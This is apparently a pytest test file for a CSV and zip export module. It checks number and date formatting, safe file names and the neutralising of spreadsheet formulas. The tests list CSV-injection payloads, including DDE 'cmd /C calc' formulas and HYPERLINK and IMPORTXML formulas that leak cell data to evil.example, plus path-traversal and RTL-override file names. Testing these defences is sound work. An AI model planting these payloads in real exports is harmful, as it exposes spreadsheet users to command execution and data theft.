import csv
import datetime
import io
import random
import re
import zipfile
from decimal import Decimal

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from segmentation.outputs import files
from segmentation.outputs.csv_cells import find_risky
from segmentation.outputs.files import file_name, write_csv, write_csv_file, write_zip


def lines_of(table):
    return write_csv(table, bom=False).decode().split("\n")[1:-1]


def cells_of(table):
    text = write_csv(table, bom=False).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def cell_of(value):
    return cells_of(pd.DataFrame({"n": [1], "cell": [value]}))[1][1]


def test_named_index_comes_first_and_missing_cells_are_empty():
    table = pd.DataFrame(
        {"segment": ["Champions", None], "n_orders": [7, 1], "total_spend": [17.5, np.nan]},
        index=pd.Index(["C-1", "C-2"], name="customer_id"),
    )
    assert write_csv(table, bom=False) == (
        b"customer_id,segment,n_orders,total_spend\nC-1,Champions,7,17.5\nC-2,,1,\n"
    )


def test_index_without_a_name_is_left_out():
    assert write_csv(pd.DataFrame({"a": [1]}, index=["x"]), bom=False) == b"a\n1\n"


def test_every_named_level_of_an_index_is_a_column():
    levels = pd.MultiIndex.from_tuples([("At risk", "Berlin")], names=["segment", "city"])
    table = pd.DataFrame({"n": [3]}, index=levels)
    assert write_csv(table, bom=False) == b"segment,city,n\nAt risk,Berlin,3\n"


def test_index_of_days_is_written_as_days():
    days = pd.DatetimeIndex(["2024-03-05"], name="ordered_on")
    assert lines_of(pd.DataFrame({"n": [1]}, index=days)) == ["2024-03-05,1"]


def test_byte_order_mark_is_there_when_asked_for(tmp_path):
    table = pd.DataFrame({"name": ["Łukasz"]})
    assert write_csv(table) == b"\xef\xbb\xbfname\n" + "Łukasz\n".encode()
    write_csv_file(table, tmp_path / "names.csv")
    assert (tmp_path / "names.csv").read_bytes() == write_csv(table, bom=False)


# Payloads as printed by OWASP (CSV Injection), Payloads All The Things and Context (2014).
@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!D2",
        " =1+1",
        "＝1+1",
        '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Click")',
        "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1), '//a')",
        "=10+20+cmd|' /C calc'!A0",
        "DDE".join(["@", '("cmd";"/C calc";"x")']),
        "\ttext after a tab",
        "-5+cmd",
        "+49 or 1=1",
        "-",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert cell_of(payload) == "'" + payload
    assert cells_of(pd.DataFrame([[1, 2]], columns=["n", payload]))[0][1] == "'" + payload


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("shoe;=cmd|' /C calc'!A0", "shoe;'=cmd|' /C calc'!A0"),
        ("shoe\n@SUM(1)", "shoe\n'@SUM(1)"),
        ("shoe\t+1+1", "shoe\t'+1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
    ],
)
def test_formula_behind_another_programs_separator_is_harmless_too(payload, expected):
    assert cell_of(payload) == expected


@pytest.mark.parametrize(
    "text",
    [
        *["-5", "+49123", "-5.25", "-5,25", "-1e-05", "a=b", "x@example.com", "'=1", "1-2", ""],
        *["O'Brien", 'say "hi"', "a,b", "two\nlines", "two\r\nlines", "a;b", " blanks ", "Ελένη"],
    ],
)
def test_harmless_text_reads_back_as_it_was(text):
    assert cell_of(text) == text


@pytest.mark.parametrize("seed", range(5))
def test_formula_among_harmless_texts_is_found_wherever_it_begins(seed):
    chance = random.Random(seed)
    signs = ["a", "日", " ", ";", "\t", "\n", "=", "+", "-", "@", "＝", "＠", "5", None]
    for _ in range(200):
        cells = [
            "".join(sign for sign in chance.choices(signs, k=3) if sign)
            for _ in range(chance.randint(1, 3))
        ]
        begun = [re.split("^|[;\t\n]", cell) for cell in cells]
        expected = [
            cell[:1] in {"\t", "\n"}
            or any(part.lstrip(" ")[:1] in set("=+-@＝＠") for part in parts)
            for cell, parts in zip(cells, begun, strict=True)
        ]
        is_number = [re.fullmatch("[+-]5+", cell) is not None for cell in cells]
        expected = [risky and not plain for risky, plain in zip(expected, is_number, strict=True)]
        found = find_risky(pa.array(["=before", *cells], pa.string()).slice(1))
        assert found.to_pylist() == expected, cells


def test_formula_in_a_category_an_index_and_mixed_cells_is_harmless():
    table = pd.DataFrame(
        {"segment": pd.Categorical(["=1+1", None]), "mixed": ["=2+2", -3]},
        index=pd.Index(["@SUM(1)", "b"], name="customer_id"),
    )
    assert lines_of(table) == ["'@SUM(1),'=1+1,'=2+2", "b,,-3"]


@pytest.mark.parametrize(
    ("number", "expected"),
    [
        (17.5, "17.5"),
        (7.0, "7"),
        (-5, "-5"),
        (-5.5, "-5.5"),
        (0.1 + 0.2, "0.3"),
        (-0.0, "0"),
        (8911407.904000001, "8911407.904"),
        (0.00001234, "0.00001234"),
        (1.5e-9, "0.0000000015"),
        (123456789012345680.0, "123456789012345680"),
        (1e300, "1e+300"),
        (float("inf"), "inf"),
        (np.float32(0.1), "0.1"),
        (Decimal("-12.50"), "-12.5"),
        (2**63 - 1, "9223372036854775807"),
        (2**70, str(2**70)),
        (True, "true"),
    ],
)
def test_numbers_are_short_and_never_touched(number, expected):
    assert cell_of(number) == expected


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (pd.to_datetime(["2024-03-05", None]), ["2024-03-05", ""]),
        (pd.to_datetime(["2024-03-05 14:22", "2024-03-06 00:00"]), None),
        (pd.to_datetime(["1969-12-31 23:59:58.9"] * 2), ["1969-12-31 23:59:58"] * 2),
        ([datetime.date(2024, 3, 5), None], ["2024-03-05", ""]),
        (pd.to_datetime(["2024-03-05 00:00+02:00"] * 2), ["2024-03-05"] * 2),
        (pd.PeriodIndex(["2024-03", "NaT"], freq="M"), ["2024-03", ""]),
        (pd.to_timedelta(["1 day", None]), ["1 days 00:00:00", ""]),
        (pd.array([1, None], dtype="Int64"), ["1", ""]),
        ([["a", "b"], None], ["['a', 'b']", ""]),
        (pd.Series(["\ud800", None], dtype=object), ["?", ""]),
    ],
)
def test_each_kind_of_column_has_one_form(values, expected):
    expected = expected or ["2024-03-05 14:22:00", "2024-03-06 00:00:00"]
    rows = cells_of(pd.DataFrame({"n": [1, 2], "cell": values}))
    assert [row[1] for row in rows[1:]] == expected


def test_pandas_and_csv_read_back_what_was_written(monkeypatch):
    monkeypatch.setattr(files, "BATCH", 3)
    table = pd.DataFrame(
        {
            "name": ["D'Arcy, Aoife", 'The "Best"', "two\nlines", "ok", "a\rb", "x,\n", None] * 2,
            "n_orders": range(14),
            "total_spend": np.linspace(-1, 1, 14).round(2),
            "last_ordered_on": pd.date_range("2024-02-25", periods=14),
        },
        index=pd.Index([f"C-{i}" for i in range(14)], name="customer_id"),
    )
    content = write_csv(table)
    back = pd.read_csv(
        io.BytesIO(content), encoding="utf-8-sig", index_col=0, parse_dates=["last_ordered_on"]
    )
    pd.testing.assert_frame_equal(back, table, check_dtype=False)
    assert cells_of(table)[1][:3] == ["C-0", "D'Arcy, Aoife", "0"]


def test_sliced_table_is_written_from_its_own_first_row(monkeypatch):
    monkeypatch.setattr(files, "BATCH", 2)
    table = pd.DataFrame({"a": ["x", "y", "z", "=1", "w"], "n": range(5)})
    assert lines_of(table.iloc[2:]) == ["z,2", "'=1,3", "w,4"]


def test_empty_cell_of_the_only_column_is_no_blank_line():
    table = pd.DataFrame({"email": ["a@example.com", None, ""]})
    assert lines_of(table) == ["a@example.com", '""', '""']


def test_headers_are_quoted_where_needed_and_may_repeat():
    table = pd.DataFrame([[1, 2, 3, 4]], columns=["a,b", 'say "hi"', "x", "x"])
    assert write_csv(table, bom=False) == b'"a,b","say ""hi""",x,x\n1,2,3,4\n'


def test_file_does_not_begin_like_a_sylk_file():
    assert write_csv(pd.DataFrame({"ID": [1]}), bom=False) == b'"ID"\n1\n'


@pytest.mark.parametrize("columns", [[], ["customer_id", "segment"]])
def test_table_without_rows_is_its_header(columns):
    table = pd.DataFrame(columns=columns)
    assert write_csv(table, bom=False) == (",".join(columns) + "\n").encode()


def test_table_given_is_not_changed():
    table = pd.DataFrame({"text": ["=1"], "number": [-0.0]}, index=pd.Index(["@a"], name="id"))
    before = table.copy(deep=True)
    write_csv(table)
    pd.testing.assert_frame_equal(table, before)


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        (["Can't lose them", "online retail.csv"], "cant-lose-them_online-retail.csv"),
        (["../../etc/passwd"], "etc-passwd.csv"),
        (["C:\\temp\\a\0b"], "c-temp-a-b.csv"),
        (["Größe", "Élite"], "grosse_elite.csv"),
        (["Постоянные"], "постоянные.csv"),
        (["", " ", "…"], "data.csv"),
        (["CON"], "data_con.csv"),
        (["a\u202egnp.exe"], "a-gnp-exe.csv"),
        (["x" * 500], "x" * 120 + ".csv"),
        (["日" * 500], "日" * 40 + ".csv"),
    ],
)
def test_file_name_has_nothing_that_a_system_would_mind(parts, expected):
    assert file_name(*parts) == expected


@pytest.mark.parametrize(
    ("ext", "expected"), [(".xlsx", "a.xlsx"), ("csv.GZ", "a.csv.gz"), ("/../", "a.csv")]
)
def test_ending_of_a_file_name_is_safe_too(ext, expected):
    assert file_name("a", ext=ext) == expected


def test_archive_holds_the_files_in_order_and_is_the_same_each_time():
    given = {"b.csv": b"b\n1\n", "größe.csv": b"a\n2\n"}
    content = write_zip(given)
    assert content == write_zip(given)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == given
        assert archive.infolist()[0].date_time == (1980, 1, 1, 0, 0, 0)
